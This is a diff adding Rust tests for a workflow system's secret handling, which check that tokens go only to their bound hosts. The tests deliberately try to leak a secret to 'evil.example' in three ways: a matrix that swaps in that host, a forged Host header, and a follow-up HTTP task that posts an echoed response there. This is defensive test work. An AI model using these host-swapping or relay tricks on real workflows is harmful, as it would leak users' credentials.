@@ -1,7 +1,7 @@
 //! Secrets of workflows: sealed, shown by name alone, and sent to the hosts they are bound to and nowhere else.
 
 use crate::house::{House, OWN, PERSON, TENANT};
-use crate::workflows::{carry_out, claimed, create, run_of, step, trigger};
+use crate::workflows::{carry_out, claimed, create, done, http, run_of, step, trigger};
 use automation::services::requests::HttpRequest;
 use catalogue::{Caller, Role};
 use operations::Trackers;
@@ -168,4 +168,71 @@ fn a_secret_of_the_environment_is_bound_by_its_name() {
     assert_eq!(listed["data"]["workflow_list_secrets"]["secrets"][0]["is_sealed"], false);
     save(&house, r#"name: "TOKEN", hosts: ["b.example"]"#);
     assert!(first(&house, &task).is_ok());
+
+    // What opens a service belongs there, although nobody has bound it.
+    let task = task.replace("TOKEN", "GITLAB_TOKEN");
+    let refused = first(&house, &task).unwrap_err();
+    assert!(refused.contains("GITLAB_TOKEN may be sent to gitlab.com alone, and this task sends to b.example; Settings,"), "{refused}");
+    save(&house, r#"name: "GITLAB_TOKEN", hosts: []"#);
+    assert!(first(&house, &task).is_ok());
+}
+
+#[test]
+fn no_copy_of_a_task_and_no_answer_takes_a_secret_elsewhere() {
+    let house = house();
+    save(&house, r#"name: "DEPLOY", value: "open sesame", hosts: ["api.example.com"]"#);
+    let copies = ask("https://{{ Matrix.host }}/x").replacen('{', r#"{ matrix: "{\"host\": [\"evil.example\"]}","#, 1);
+    let refused = first(&house, &copies).unwrap_err();
+    assert!(refused.starts_with("SecretHost: the secret DEPLOY"), "{refused}");
+    let header = ask("https://api.example.com/x").replace("auth_type", r#"headers: { Host: "evil.example" }, auth_type"#);
+    assert!(first(&house, &header).unwrap_err().ends_with("this task sends to evil.example"));
+
+    // A service that repeats what it was sent is not a way out.
+    let tell = r#"{ id: "tell", type: "integrations.http", depends_on: ["ask"], params: { url: "https://evil.example", body: "{{ Tasks.ask.output.body }}" } }"#;
+    create(&house, "repeats", "PAUSED", MANUAL, &format!("{} {tell}", ask("https://api.example.com/x")));
+    let listed = house.answers(&format!(r#"{{ workflow_list(request: {{ account_id: "{OWN}", name: "repeats" }}) {{ workflows {{ id }} }} }}"#));
+    trigger(&house, listed["workflow_list"]["workflows"][0]["id"].as_str().unwrap());
+    let run = claimed(&house.store);
+    assert_eq!(step(&house.store, run, Vec::new(), &[]).calls.len(), 1);
+    let next = step(&house.store, run, done("ask", json!({ "body": "you sent open sesame" })), &[]);
+    assert_eq!(http(&next.calls[0]).body.as_deref(), Some("you sent ***"));
+}
+
+#[test]
+fn a_token_of_a_service_goes_there_until_somebody_binds_it() {
+    let house = house();
+    let with = |secrets: &str| {
+        let saved = save(&house, secrets);
+        assert!(saved["errors"].is_null(), "{saved}");
+    };
+    let pull = r#"{ id: "pull", type: "scm.get_pull_request", params: { provider: "github", repository: "acme/shop", number: 1, base_url: "https://git.own.example" } }"#;
+    let began = |expected: &str| {
+        let id = create(&house, &format!("pull {}", Uuid::new_v4().simple()), "PAUSED", MANUAL, pull);
+        trigger(&house, &id);
+        let mut next = step(&house.store, claimed(&house.store), Vec::new(), &[]);
+        match next.calls.pop().map(|call| call.work) {
+            Some(Ok(RunWork::Pull(_))) => assert_eq!(expected, ""),
+            Some(Err(failure)) => assert!(!expected.is_empty() && failure.message.contains(expected), "{failure:?}"),
+            other => panic!("{other:?}"),
+        }
+    };
+    began("there is no token for github");
+    // As one of the environment that nobody has bound.
+    with(r#"name: "GITHUB_TOKEN", value: "ghp_word""#);
+    let hosts = |house: &House| {
+        let listed = asked(house, "{ workflow_list_secrets { secrets { hosts } } }");
+        listed["data"]["workflow_list_secrets"]["secrets"][0]["hosts"].clone()
+    };
+    assert_eq!(hosts(&house), json!(["api.github.com", "github.com", "uploads.github.com"]));
+    let refused = house.refuses(&format!(
+        r#"mutation {{ workflow_validate(request: {{ account_id: "{OWN}", workflow: {{ name: "x", definition: {{ triggers: [{MANUAL}] tasks: [{pull}] }} }} }}) {{ message }} }}"#
+    ));
+    assert!(refused.contains("tasks[0].params: the secret GITHUB_TOKEN may be sent to api.github.com"), "{refused}");
+    with(r#"name: "GITHUB_TOKEN", hosts: ["git.own.example"]"#);
+    began("");
+    // Another value keeps its hosts; without any it goes anywhere, because somebody says so.
+    with(r#"name: "GITHUB_TOKEN", value: "ghp_other""#);
+    assert_eq!(hosts(&house), json!(["git.own.example"]));
+    with(r#"name: "GITHUB_TOKEN", hosts: []"#);
+    began("");
 }
